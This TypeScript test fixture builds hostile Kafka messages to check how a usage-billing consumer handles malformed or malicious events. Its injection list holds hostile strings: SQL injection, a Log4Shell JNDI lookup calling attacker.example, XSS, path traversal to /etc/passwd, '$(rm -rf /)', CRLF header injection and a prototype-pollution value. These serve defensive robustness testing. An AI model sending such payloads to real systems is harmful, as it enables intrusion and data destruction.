import type { IHeaders, Message } from 'kafkajs';
import type { CreditModel, ModelUsage } from './creditModel';
import type { SeededRandom } from './seededRandom';

/**
 * What must become of a hostile message: a dead letter with a reason; skipped and counted
 * (a well-formed event that charges nothing); charged like any valid event (odd but legal
 * strings); or either of the first two where both are defensible (random bytes behind a real
 * schema id that happen to decode). A `dlq-or-skip` message that is not dead-lettered counts as
 * one `no_balance` skip: it names no customer that has a balance.
 */
export type HostileExpectation = 'dlq' | 'skip' | 'charge' | 'dlq-or-skip';

export interface HostileMessage {
  readonly index: number;
  readonly kind: string;
  readonly expect: HostileExpectation;
  readonly message: Message;
}

/** Headers every hostile message carries, so that its dead letter (which keeps them) is traced back. */
export const HOSTILE_HEADERS = { index: 'fault-case', kind: 'fault-kind' } as const;

export interface HostileCorpusInput {
  readonly random: SeededRandom;
  readonly model: CreditModel;
  /** Customers with balances (compute for all, storage for every third): rules match their events. */
  readonly customers: readonly string[];
  readonly usageSchemaId: number;
  /** The usage record as Avro with the registered usage schema, without the 5-byte frame. */
  readonly avroBody: (record: unknown) => Buffer;
  /** Another schema registered in the registry whose records are not usage events, and an encoder for it. */
  readonly foreignSchema: { readonly id: number; readonly encode: (record: unknown) => Buffer };
  /** The largest message value the usage topic accepts with this corpus's key and headers. */
  readonly largestValueBytes: number;
  /** A customer whose only balance is on a product stored in a shape today's validation refuses. */
  readonly invalidProductCustomer: string;
}

const INJECTIONS = [
  "'; DROP TABLE events; --",
  "Robert'); DROP TABLE streams;--",
  '" OR "1"="1',
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '$(rm -rf /)',
  '`id`',
  '{{7*7}}',
  '%s%s%s%n',
  'tally:active',
  '*',
  '[a-z]?\\',
  '\u202egnp.exe',
  '𝕿𝖆𝖑𝖑𝖞 🔥',
  'SELECT pg_sleep(10)',
  '\r\nSet-Cookie: x=1',
];

interface Built {
  kind: string;
  expect: HostileExpectation;
  key: Buffer | string | null;
  value: Buffer | null;
  headers?: IHeaders;
  /** Set for a key near 1 MB: kafkajs's key partitioner (murmur2) takes minutes on one. */
  partition?: number;
}

type Build = (input: HostileCorpusInput, n: number) => Built;

/** A JSON string escape of a lone UTF-16 surrogate: valid JSON, not valid Unicode. */
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', 'x\ud83d', '\ude00x'];

/** Byte sequences that are not UTF-8: a byte UTF-8 never uses, an encoded surrogate (CESU-8), a sequence cut short, an overlong NUL. */
const INVALID_UTF8 = [[0xff], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xc0, 0x80], [0x80]];

const json = (value: unknown) => Buffer.from(JSON.stringify(value));
const framed = (schemaId: number, body: Buffer) => {
  const header = Buffer.alloc(5);
  header.writeInt32BE(schemaId, 1);
  return Buffer.concat([header, body]);
};
const avroProperties = (properties: Record<string, unknown>) => properties;

function usage(input: HostileCorpusInput, n: number, overrides: Partial<Omit<ModelUsage, 'properties'>> & { properties?: Record<string, unknown> } = {}) {
  return {
    id: `hostile-${n}`,
    customerId: input.random.pick(input.customers),
    event: 'tokens',
    timestamp: Date.UTC(2026, 1, 1) + n,
    properties: { count: 10 },
    ...overrides,
  };
}

/** Registers a well-formed event in the model: its outcome (skip or charge) is then computed there. */
function modelled(input: HostileCorpusInput, event: ModelUsage, kind: string, expect: 'skip' | 'charge') {
  input.model.publish(event);
  return { kind, expect, key: event.customerId, value: json(event) };
}

const BUILDS: readonly Build[] = [
  (input) => {
    // Neither a Confluent frame (0x00) nor JSON ("{"): undecodable at the first byte.
    const bytes = input.random.bytes(input.random.int(1, 512));
    bytes[0] = input.random.pick([0x01, 0x5b, 0x22, 0x6e, 0xff, 0x20]);
    return { kind: 'random-bytes', expect: 'dlq', key: input.random.pick(input.customers), value: bytes };
  },
  (input) => ({ kind: 'short-frame', expect: 'dlq', key: null, value: Buffer.from([0, ...input.random.bytes(input.random.int(0, 3))]) }),
  (input, n) => {
    const whole = framed(input.usageSchemaId, input.avroBody(usage(input, n, { properties: avroProperties({ count: { long: 10 } }) })));
    return { kind: 'truncated-avro', expect: 'dlq', key: input.random.pick(input.customers), value: whole.subarray(0, input.random.int(5, whole.length - 1)) };
  },
  (input, n) => {
    // Ids the registry never issued: far above any real one, zero, negative.
    const schemaId = input.random.pick([2_000_000_000 + n, 0, -1, -2147483648, 2147483647, 999_999_999]);
    return { kind: 'unknown-schema-id', expect: 'dlq', key: input.random.pick(input.customers), value: framed(schemaId, input.avroBody(usage(input, n, { properties: {} }))) };
  },
  (input) => ({
    // Noise behind a real schema id almost never decodes; when it does, the "event" belongs to no
    // customer. Either way nothing may be charged.
    kind: 'random-after-frame',
    expect: 'dlq-or-skip',
    key: null,
    value: framed(input.usageSchemaId, input.random.bytes(input.random.int(1, 300))),
  }),
  (input, n) => {
    // A properties map that claims up to 2^52 entries in the few bytes left: avsc alone would loop
    // on it for hours. Random noise behind a frame hits this now and then; here it is every time.
    const body = input.avroBody(usage(input, n, { properties: {} }));
    const count = Buffer.from([0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, input.random.pick([0x10, 0x01, 0x7e])]);
    const value = framed(input.usageSchemaId, Buffer.concat([body.subarray(0, -1), count, input.random.bytes(input.random.int(0, 16))]));
    return { kind: 'avro-block-bomb', expect: 'dlq', key: input.random.pick(input.customers), value };
  },
  (input, n) => ({ kind: 'foreign-schema', expect: 'dlq', key: input.random.pick(input.customers), value: framed(input.foreignSchema.id, input.foreignSchema.encode({ name: `not usage ${n}`, size: n })) }),
  (input, n) => {
    const wrong = input.random.pick<Record<string, unknown>>([
      { id: n },
      { customerId: true },
      { customerId: 12 },
      { event: ['tokens'] },
      { timestamp: 'yesterday' },
      { timestamp: -1 },
      { timestamp: 1e20 },
      { timestamp: 1.5 },
      { properties: [1, 2, 3] },
      { properties: 'count=10' },
      { properties: { count: { nested: 1 } } },
      { properties: { count: [10] } },
      { id: '' },
      { customerId: '' },
    ]);
    return { kind: 'wrong-types', expect: 'dlq', key: input.random.pick(input.customers), value: json({ ...usage(input, n), ...wrong }) };
  },
  (input, n) => {
    const record: Record<string, unknown> = usage(input, n);
    delete record[input.random.pick(['id', 'customerId', 'event', 'timestamp'])];
    return { kind: 'missing-field', expect: 'dlq', key: input.random.pick(input.customers), value: json(record) };
  },
  (input) => ({
    kind: 'not-an-object',
    expect: 'dlq',
    key: input.random.pick(input.customers),
    value: Buffer.from(input.random.pick(['{', '{}', '{"id":', '{"a":1}', 'null', '[]', '"usage"', '42', '{"__proto__":{"admin":true}}', '{\u0000}'])),
  }),
  (input, n) => {
    // Quantities no product can price: the event is invalid for its customer's rules.
    const count = input.random.pick<unknown>([-5, -0.000001, 1e300, '1e40', '99999999999999999999', 'NaN', 'Infinity', 'abc', '', true, null, {}, '0x10', '1,5']);
    const record = usage(input, n, { properties: count === undefined ? {} : { count } });
    return { kind: 'bad-quantity', expect: 'dlq', key: record.customerId, value: json(record) };
  },
  (input, n) => {
    // NaN and ±Infinity only exist in Avro doubles (JSON has no such numbers).
    const count = input.random.pick([Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, -1e308]);
    const record = usage(input, n, { properties: avroProperties({ count: { double: count } }) });
    return { kind: 'bad-quantity-avro', expect: 'dlq', key: record.customerId, value: framed(input.usageSchemaId, input.avroBody(record)) };
  },
  (input, n) => {
    const record = usage(input, n, { properties: {} });
    return { kind: 'missing-quantity', expect: 'dlq', key: record.customerId, value: json(record) };
  },
  (input, n) => {
    const record = usage(input, n, { id: `hostile-${n}-${'x'.repeat(300)}` });
    return { kind: 'too-long-text', expect: 'dlq', key: record.customerId, value: json(record) };
  },
  (input, n) => {
    // Properties no rule reads never dead-letter an event, however many or however shaped.
    const extra = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`p${i}`, i]));
    const record = { ...usage(input, n), properties: { ...extra, count: 10, nested: { deep: [1] }, list: [1, 2], ['k'.repeat(300)]: 'v' } };
    const event: ModelUsage = { ...record, properties: { count: 10 } };
    input.model.publish(event);
    return { kind: 'many-properties', expect: 'charge', key: record.customerId, value: json(record) };
  },
  (input, n) => {
    // A lone surrogate in any string of a JSON event: PostgreSQL refuses it (22P02), so it is refused up front.
    const lone = JSON.parse(`"${input.random.pick(LONE_SURROGATES)}"`) as string;
    const record: { [field: string]: unknown; properties: Record<string, unknown> } = usage(input, n);
    const field = input.random.pick(['id', 'customerId', 'event', 'property-name', 'property-value'] as const);
    if (field === 'property-name') record.properties = { ...record.properties, [`note${lone}`]: 1 };
    else if (field === 'property-value') record.properties = { ...record.properties, note: `v${lone}` };
    else record[field] = `${String(record[field])}${lone}`;
    return { kind: `lone-surrogate-${field}`, expect: 'dlq', key: input.random.pick(input.customers), value: json(record) };
  },
  (input, n) => {
    // Invalid UTF-8 in any Avro string: avsc would decode it into U+FFFD without a word.
    const field = input.random.pick(['id', 'customerId', 'event', 'property-name', 'property-value'] as const);
    const marker = `zq${n}qz`;
    const record: { [field: string]: unknown; properties: Record<string, unknown> } = usage(input, n, { properties: { count: { long: 10 } } });
    if (field === 'property-name') record.properties = { ...record.properties, [marker]: { string: 'v' } };
    else if (field === 'property-value') record.properties = { ...record.properties, note: { string: marker } };
    else record[field] = marker;
    const body = input.avroBody(record);
    const bad = input.random.pick(INVALID_UTF8);
    body.set(bad, body.indexOf(marker) + 1);
    return { kind: `invalid-utf8-avro-${field}`, expect: 'dlq', key: input.random.pick(input.customers), value: framed(input.usageSchemaId, body) };
  },
  (input, n) => {
    // The customer's balance is on a product stored before today's validation: unpriceable, never "nothing to charge".
    const record = usage(input, n, { customerId: input.invalidProductCustomer });
    return { kind: 'stored-product-invalid', expect: 'dlq', key: record.customerId, value: json(record) };
  },
  (input) => ({ kind: 'empty-value', expect: 'dlq', key: input.random.pick(input.customers), value: input.random.chance(0.5) ? null : Buffer.alloc(0) }),
  (input, n) =>
    modelled(input, { id: `hostile-${n}`, customerId: `unknown-${n}-${input.random.int(0, 1e9)}`, event: 'api_call', timestamp: Date.UTC(2026, 1, 1), properties: {} }, 'unknown-customer', 'skip'),
  (input, n) =>
    modelled(input, { id: `hostile-${n}`, customerId: input.random.pick(INJECTIONS), event: 'api_call', timestamp: Date.UTC(2026, 1, 1), properties: {} }, 'injection-customer', 'skip'),
  (input, n) =>
    modelled(input, { id: `hostile-${n}`, customerId: input.random.pick(input.customers), event: input.random.pick(INJECTIONS), timestamp: Date.UTC(2026, 1, 1), properties: {} }, 'injection-event', 'skip'),
  (input, n) =>
    // Zero, or so little that the price rounds to 0 micro-credits: nothing to charge.
    modelled(input, { ...usage(input, n), properties: { count: input.random.pick([0, 0.01, '0.05', '0']) } }, 'zero-quantity', 'skip'),
  (input, n) =>
    // Odd but legal strings where the rules only compare: charged at the plain price.
    modelled(
      input,
      { id: `hostile-${n}-${input.random.pick(INJECTIONS)}`.slice(0, 200), customerId: input.random.pick(input.customers), event: 'api_call', timestamp: Date.UTC(2026, 1, 1), properties: { plan: `pro${input.random.pick(INJECTIONS)}` } },
      'injection-properties',
      'charge',
    ),
  (input, n) => {
    // A structured-mode CloudEvent with one thing wrong for usage: the spec's rules, or Tally's
    // (subject and time required, data an object). The SDK would make up a missing id and time.
    const event = { specversion: '1.0', id: `hostile-${n}`, source: '/hostile', type: 'api_call', subject: input.random.pick(input.customers), time: '2026-02-01T00:00:00Z', data: { count: 1 } };
    const broken = input.random.pick<Record<string, unknown>>([
      { id: '' },
      { id: undefined },
      { id: 42 },
      { source: undefined },
      { type: ['api_call'] },
      { time: undefined },
      { time: 'yesterday' },
      { subject: undefined },
      { specversion: '0.3' },
      { data: [1, 2] },
      { data: 'count=1' },
      { data: undefined, data_base64: 'AAAA' },
      // (Nested data no rule reads is left out and the event charged, issue 10; a lone surrogate is refused.)
      { data: { count: 1, note: 'lone \ud800' } },
    ]);
    return { kind: 'cloudevent-invalid', expect: 'dlq', key: event.subject, value: json({ ...event, ...broken }) };
  },
  (input, n) => {
    // PostgreSQL text and jsonb cannot hold U+0000: such an id can be neither looked up nor stored.
    const field = input.random.pick(['id', 'customerId', 'event'] as const);
    const record = { ...usage(input, n), [field]: `nul\u0000${n}` };
    return { kind: 'nul-text', expect: 'dlq', key: null, value: json(record) };
  },
];

/** Payloads from 64 KiB up to the largest the topic takes, each invalid (an id of megabytes). */
function hugeMessage(input: HostileCorpusInput, n: number, bytes: number) {
  const record = usage(input, n, { id: '' });
  const empty = json(record).length;
  return { kind: 'huge', expect: 'dlq' as const, key: record.customerId, value: json({ ...record, id: 'h'.repeat(Math.max(0, bytes - empty)) }) };
}

/**
 * A key or a header set near 1 MB on an invalid event: its dead letter, which keeps both and adds
 * headers of its own, would not fit the DLQ topic whole.
 */
function hugeKeyOrHeaders(input: HostileCorpusInput, n: number, which: 'key' | 'headers'): Built {
  const value = json(usage(input, n, { id: '' }));
  const room = input.largestValueBytes - value.length - 1024;
  return which === 'key'
    ? { kind: 'huge-key', expect: 'dlq', key: Buffer.alloc(room, 0x6b), value, partition: 0 }
    : {
        kind: 'huge-headers',
        expect: 'dlq',
        key: input.random.pick(input.customers),
        value,
        headers: { bulk: Buffer.alloc(Math.floor(room * 0.7), 0x68), more: Buffer.alloc(Math.floor(room * 0.3) - 64, 0x68) },
      };
}

/**
 * At least `count` hostile messages, every kind above in turn plus a handful of huge ones, each
 * tagged with HOSTILE_HEADERS. Well-formed ones are recorded in the model as they are made.
 */
export function createHostileCorpus(input: HostileCorpusInput, count: number): HostileMessage[] {
  const hugeSizes = [64 * 1024, 256 * 1024, 512 * 1024, 900 * 1024, input.largestValueBytes];
  const corpus: HostileMessage[] = [];
  const add = (built: Built) => {
    const index = corpus.length;
    const headers: IHeaders = { [HOSTILE_HEADERS.index]: String(index), [HOSTILE_HEADERS.kind]: built.kind, ...built.headers };
    const message: Message = { key: built.key, value: built.value, headers, ...(built.partition !== undefined ? { partition: built.partition } : {}) };
    corpus.push({ index, kind: built.kind, expect: built.expect, message });
  };
  for (const bytes of hugeSizes) add(hugeMessage(input, corpus.length, bytes));
  add(hugeKeyOrHeaders(input, corpus.length, 'key'));
  add(hugeKeyOrHeaders(input, corpus.length, 'headers'));
  while (corpus.length < count) add(BUILDS[corpus.length % BUILDS.length]!(input, corpus.length));
  return corpus;
}
